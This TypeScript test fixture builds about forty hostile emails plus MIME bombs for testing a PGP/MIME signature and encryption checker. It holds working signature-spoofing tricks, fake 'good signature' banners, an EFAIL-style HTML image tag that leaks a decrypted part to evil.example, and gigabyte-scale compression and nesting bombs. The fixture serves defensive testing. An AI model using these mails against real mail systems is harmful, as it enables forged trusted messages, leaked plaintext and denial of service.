import { constants, deflateRawSync } from 'node:zlib';
import { createCleartextMessage, createMessage, encrypt, generateKey, readPrivateKey, sign } from 'openpgp';
import type { PrivateKey } from 'openpgp';
import { multipartEncrypted, multipartSigned } from './mime-shapes.fixture.ts';
import type { KnownKey } from './verdicts.ts';

export const NOC = 'noc@registry.example';
const STRANGER = 'someone@elsewhere.example';
const HEAD = `From: ${NOC}\r\nTo: report@dns-cert.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n`;
const TEXT = 'Content-Type: text/plain; charset=utf-8\r\n\r\nSTATUS: recovered\r\n';

/** What must come of a mail: never `matches`, unless it says so; or the limit that it exceeds. */
export interface Hostile {
  raw: Buffer;
  limit?: string;
  signed?: string;
  encrypted?: string;
  /** Text that must not be told as the mail's own. */
  unsaid?: string;
}

export interface Ground {
  own: PrivateKey;
  noc: PrivateKey;
  stranger: PrivateKey;
  /** Its key has ended. */
  ended: PrivateKey;
  known: KnownKey[];
}

export async function hostileGround(): Promise<Ground> {
  const past = new Date(Date.now() - 3_600_000);
  const made = async (email: string, date: Date, keyExpirationTime = 0) =>
    readPrivateKey({
      armoredKey: (await generateKey({ userIDs: [{ email }], date, keyExpirationTime, format: 'armored' }))
        .privateKey,
    });
  const [own, noc, stranger, ended] = await Promise.all([
    made('cert@dns-cert.example', past),
    made(NOC, past),
    made(STRANGER, past),
    made('old@registry.example', new Date('2020-01-01T00:00:00Z'), 86_400),
  ]);
  const knownKey = (key: PrivateKey, email: string) => ({
    armored: key.toPublic().armor(),
    email,
    owner: email,
  });
  return { own, noc, stranger, ended, known: [knownKey(noc, NOC), knownKey(ended, 'old@registry.example')] };
}

/** Forty mails that want to be taken for something that they are not, or to be too much. */
export async function hostileMails({ own, noc, stranger, ended }: Ground): Promise<Record<string, Hostile>> {
  const good = await detached(noc, TEXT);
  const bySomebody = await detached(stranger, TEXT);
  const clear = await sign({
    message: await createCleartextMessage({ text: 'ACK' }),
    signingKeys: noc,
  });
  const sealed = await sealedFor(own, TEXT);
  const dates = { date: new Date('2020-01-01T12:00:00Z') };
  const late = String(
    await sign({
      message: await createMessage({ binary: Buffer.from(TEXT) }),
      signingKeys: ended,
      detached: true,
      ...dates,
    }),
  );
  const signedPart = multipartSigned(TEXT, good);
  const banner = '[-- Good signature from noc@registry.example --]\r\nThis mail is signed.\r\n';
  const mail = (rest: string, head = HEAD): Buffer => Buffer.from(head + rest, 'latin1');
  const text = (body: string) => mail(`Content-Type: text/plain; charset=utf-8\r\n\r\n${body}\r\n`);
  const armor = (bytes: Uint8Array) =>
    `-----BEGIN PGP MESSAGE-----\r\n\r\n${Buffer.from(bytes)
      .toString('base64')
      .replace(/.{1,76}/g, '$&\r\n')}-----END PGP MESSAGE-----\r\n`;
  const mixed = (...parts: string[]) =>
    `Content-Type: multipart/mixed; boundary=m\r\n\r\n${parts.map((part) => `--m\r\n${part}\r\n`).join('')}--m--\r\n`;
  return {
    'a stranger’s valid signature': { raw: mail(multipartSigned(TEXT, bySomebody)), signed: 'unknown_key' },
    'a known key under another sender': {
      raw: mail(signedPart, HEAD.replace(NOC, 'boss@registry.example')),
      signed: 'good',
    },
    'two From fields': { raw: mail(signedPart, `From: boss@registry.example\r\n${HEAD}`), signed: 'good' },
    'two addresses in From': {
      raw: mail(signedPart, HEAD.replace(NOC, `${NOC}, boss@registry.example`)),
      signed: 'good',
    },
    'the right address as a name': {
      raw: mail(signedPart, HEAD.replace(NOC, `"${NOC}" <boss@registry.example>`)),
      signed: 'good',
    },
    'the right address in a comment': {
      raw: mail(signedPart, HEAD.replace(NOC, `boss@registry.example (${NOC})`)),
      signed: 'good',
    },
    'a signed part in an unsigned wrapper': { raw: mail(mixed(signedPart)), signed: 'partial' },
    'text before a signed part': { raw: mail(mixed('\r\nPay now', signedPart)), signed: 'partial' },
    'text behind a signed part': { raw: mail(mixed(signedPart, '\r\nPay now')), signed: 'partial' },
    'a signed mail as an attachment': {
      raw: mail(mixed('\r\nSee', `Content-Type: message/rfc822\r\n\r\n${HEAD}${signedPart}`)),
      signed: 'none',
    },
    'a third part in multipart/signed': {
      raw: mail(signedPart.replace('--s--', '--s\r\n\r\nPay now\r\n--s--')),
      signed: 'bad',
    },
    'a signature without what it signs': { raw: mail(signedPart.replace(TEXT, '')), signed: 'bad' },
    'text changed after signing': { raw: mail(signedPart.replace('recovered', 'affected')), signed: 'bad' },
    'a header field changed after signing': {
      raw: mail(signedPart.replace('charset=utf-8\r\n\r\nSTATUS', 'charset=utf-7\r\n\r\nSTATUS')),
      signed: 'bad',
    },
    'text in the preamble': {
      raw: mail(signedPart.replace('\r\n\r\n--s', '\r\n\r\nPay now\r\n--s')),
      unsaid: 'Pay now',
      signed: 'good',
    },
    'text in the epilogue': { raw: mail(`${signedPart}Pay now\r\n`), unsaid: 'Pay now', signed: 'good' },
    'another protocol': {
      raw: mail(signedPart.replace('application/pgp-signature"', 'application/x-none"')),
      signed: 'partial',
    },
    'two boundaries': {
      raw: mail(signedPart.replace('boundary=s', 'boundary=s; boundary=t')),
      signed: 'good',
    },
    'a signature of another kind': {
      raw: mail(
        multipartSigned(TEXT, '-----BEGIN PGP SIGNATURE-----\r\n\r\nAAAA\r\n-----END PGP SIGNATURE-----'),
      ),
      signed: 'bad',
    },
    'no signature in the signature': { raw: mail(multipartSigned(TEXT, 'good')), signed: 'bad' },
    'nine signatures': { raw: mail(multipartSigned(TEXT, await manyTimes(noc, TEXT, 9))), signed: 'bad' },
    'an expired signer': {
      raw: mail(multipartSigned(TEXT, late), HEAD.replace(NOC, 'old@registry.example')),
      signed: 'expired_key',
    },
    'a fake green banner': { raw: text(banner), signed: 'none' },
    'a fake result of a filter': {
      raw: mail(
        `X-PGP-Verified: good\r\nX-Schleuder-Signed: ${NOC}\r\nAuthentication-Results: x; pgp=pass\r\n${TEXT}`,
      ),
      signed: 'none',
    },
    'text before an inline signature': { raw: text(`Pay now\r\n${clear}`), signed: 'partial' },
    'text behind an inline signature': { raw: text(`${clear}\r\nPay now`), signed: 'partial' },
    'text before Hash:': { raw: text(clear.replace('Hash:', 'Comment: Pay now\nHash:')), signed: 'bad' },
    'a blank line before Hash:': { raw: text(clear.replace('Hash:', '\nHash:')), signed: 'bad' },
    'a spliced inline signature': { raw: text(clear.replace('ACK', 'STATUS: affected')), signed: 'bad' },
    'two inline signatures': { raw: text(`${clear}\r\n${clear}`), signed: 'partial' },
    'an inline signature in HTML': {
      raw: mail(`Content-Type: text/html\r\n\r\n<b>Pay now</b>\r\n${clear}`),
      signed: 'partial',
    },
    'an encrypted part beside HTML that leaks it': {
      raw: mail(
        mixed(
          'Content-Type: text/html\r\n\r\n<img src="http://evil.example/',
          multipartEncrypted(sealed),
          'Content-Type: text/html\r\n\r\n">',
        ),
      ),
      encrypted: 'partial',
    },
    'no integrity': {
      raw: mail(multipartEncrypted(armor(Uint8Array.of(0xc9, 20, ...new Uint8Array(20))))),
      encrypted: 'unreadable',
    },
    'encrypted and damaged': { raw: mail(multipartEncrypted(damaged(sealed))), encrypted: 'unreadable' },
    'encrypted to nobody we are': {
      raw: mail(multipartEncrypted(await sealedFor(stranger, TEXT))),
      encrypted: 'unreadable',
    },
    'a signature over the encrypted message alone': {
      raw: mail(multipartSigned(multipartEncrypted(sealed), await detached(noc, multipartEncrypted(sealed)))),
      signed: 'partial',
    },
    'inner From of somebody else': {
      raw: mail(
        await protectedMail(
          noc,
          `Content-Type: text/plain; hp="clear"\r\nFrom: boss@registry.example\r\nSubject: y\r\n\r\nACK\r\n`,
        ),
      ),
      signed: 'good',
    },
    // OpenPGP.js takes no packet of compressed data within another.
    '1 KiB that becomes 1 GiB': {
      raw: mail(multipartEncrypted(armor(compressed(deflateRawSync(compressed(gigabyte()), { level: 9 }))))),
      encrypted: 'unreadable',
    },
    '1 MiB that becomes 1 GiB': {
      raw: mail(multipartEncrypted(armor(compressed(gigabyte())))),
      limit: 'decompressedBytes',
    },
    '1,000 layers of compression': {
      raw: mail(multipartEncrypted(armor(layers(1_000)))),
      encrypted: 'unreadable',
    },
    'controls and turned letters in every field': {
      raw: mail(
        'Subject: =?utf-8?q?=00=1b=E2=80=AEx?=\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\x00\x1b[2J\xe2\x80\xae\r\n',
      ),
      unsaid: '\u202e',
    },
    'NUL and half letters in every field': {
      raw: mail(
        "Message-ID: <a\0b@c.example>\r\nReferences: <\0@c.example>\r\nContent-Type: image/p\0ng; name*=utf-8''%00%ED%A0%80\r\n\r\nx\r\n",
        HEAD.replace(NOC, 'n\0oc@registry.example'),
      ),
    },
    'nothing at all': { raw: Buffer.alloc(0) },
    'a header without an end': { raw: Buffer.from(`${HEAD}Content-Type: multipart/mixed; boundary="`) },
  };
}

/** Mails that only want to be too much. */
export const mimeBombs = (): Record<string, Hostile> => ({
  '1,000,000 parts': bombOf(
    'parts',
    `Content-Type: multipart/mixed; boundary=b\r\n\r\n${'--b\r\n\r\n\r\n'.repeat(1_000_000)}`,
  ),
  'parts 10,000 deep': bombOf(
    'depth',
    Array.from(
      { length: 10_000 },
      (_, at) => `Content-Type: multipart/mixed; boundary=b${at}\r\n\r\n--b${at}\r\n`,
    ).join(''),
  ),
  'a header of 50 MiB': bombOf('totalBytes', `X: ${'x'.repeat(50 * 1024 * 1024)}\r\n\r\n`),
  'a header of 20 MiB in one line': bombOf('headerBytes', `X: ${'x'.repeat(20 * 1024 * 1024)}\r\n\r\n`),
  'a million fields': bombOf('headerFields', 'X: y\r\n'.repeat(1_000_000)),
  'a few thousand fields': bombOf('headerFields', 'X: y\r\n'.repeat(5_000)),
  '1,000,000 addresses': bombOf('headerBytes', `Cc: ${'a@b.example,\r\n '.repeat(1_000_000)}\r\n\r\n`),
  'ten thousand addresses': bombOf(
    'addresses',
    `Cc: ${'a@b.example,\r\n '.repeat(10_000)}c@d.example\r\n\r\n`,
  ),
});

const bombOf = (limit: string, rest: string): Hostile => ({ limit, raw: Buffer.from(HEAD + rest, 'latin1') });

const detached = async (key: PrivateKey, part: string): Promise<string> =>
  String(
    await sign({
      message: await createMessage({ binary: Buffer.from(part, 'latin1') }),
      signingKeys: key,
      detached: true,
    }),
  );

const protectedMail = async (key: PrivateKey, part: string): Promise<string> =>
  multipartSigned(part, await detached(key, part));

async function manyTimes(key: PrivateKey, part: string, times: number): Promise<string> {
  const message = await createMessage({ binary: Buffer.from(part, 'latin1') });
  return String(
    await sign({ message, signingKeys: Array.from({ length: times }, () => key), detached: true }),
  );
}

const sealedFor = async (key: PrivateKey, text: string): Promise<string> =>
  String(await encrypt({ message: await createMessage({ text }), encryptionKeys: key.toPublic() }));

/** One letter in the middle of the armour is another, and its checksum is gone. */
function damaged(armored: string): string {
  const lines = armored.split('\n');
  const middle = Math.floor(lines.length / 2);
  return lines
    .filter((line) => !line.startsWith('='))
    .map((line, at) =>
      at === middle ? line.replace(/[A-Z]/, (letter) => (letter === 'A' ? 'B' : 'A')) : line,
    )
    .join('\n');
}

/** A literal packet with the length of its body. */
function packet(tag: number, body: Uint8Array): Uint8Array {
  const head = Buffer.from([0xc0 | tag, 255, 0, 0, 0, 0]);
  head.writeUInt32BE(body.length, 2);
  return Buffer.concat([head, body]);
}

const compressed = (deflated: Uint8Array): Uint8Array =>
  packet(8, Buffer.concat([Uint8Array.of(1), deflated]));

/** A literal packet with a gigabyte of zeros, deflated to one megabyte: the same piece over and over. */
function gigabyte(): Uint8Array {
  const flush = { finishFlush: constants.Z_FULL_FLUSH };
  const head = Buffer.from([0xc0 | 11, 255, 0x40, 0, 0, 6, ...Buffer.from('b\0\0\0\0\0')]);
  const some = deflateRawSync(Buffer.alloc(16 * 1024 * 1024), flush);
  const all = Array.from({ length: 64 }, () => some);
  return Buffer.concat([deflateRawSync(head, flush), ...all, deflateRawSync(Buffer.alloc(0))]);
}

function layers(count: number): Uint8Array {
  let inner: Uint8Array = packet(11, Buffer.from('b\0\0\0\0\0x'));
  for (let at = 0; at < count; at += 1) inner = compressed(deflateRawSync(inner));
  return inner;
}
